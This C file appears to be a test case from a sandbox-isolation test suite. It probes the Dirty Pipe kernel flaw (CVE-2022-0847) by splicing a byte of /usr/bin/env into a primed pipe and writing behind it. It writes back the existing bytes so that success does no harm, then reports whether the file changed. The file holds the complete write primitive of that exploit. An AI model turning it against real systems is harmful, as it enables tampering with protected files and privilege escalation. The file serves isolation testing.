/*
 * hostile: splices a page of a shared program into a pipe and writes behind it (CVE-2022-0847)
 * class: known faults of kernels and runtimes
 * verdicts: AC SV
 * evidence: syscall:splice
 * invariant: the page cache of a file that all boxes share is not to be written
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/sendfile.h>
#include <unistd.h>

int main(void)
{
	const int shared = open("/usr/bin/env", O_RDONLY | O_CLOEXEC);
	char before[64], after[64], byte = 0;
	off_t at = 1;
	int ends[2];

	if (shared < 0 || pread(shared, before, sizeof(before), 0) != (ssize_t)sizeof(before) || pipe(ends) != 0)
		return 1;
	for (int i = 0; i < 16; i++)
		if (write(ends[1], before, sizeof(before)) < 0 || read(ends[0], after, sizeof(after)) < 0)
			return 1;
	/* What is written is what is there already, so that a success does no harm; that it could be is seen by splice.
	 */
	if (splice(shared, &at, ends[1], NULL, 1, 0) == 1 || sendfile(ends[1], shared, &at, 1) == 1) {
		if (write(ends[1], before + at, 1) == 1 && read(ends[0], &byte, 1) < 0)
			return 1;
	}
	if (pread(shared, after, sizeof(after), 0) != (ssize_t)sizeof(after) ||
	    memcmp(before, after, sizeof(after)) != 0)
		puts("ESCAPED: a shared file was changed");
	else
		puts("held");
	return 0;
}
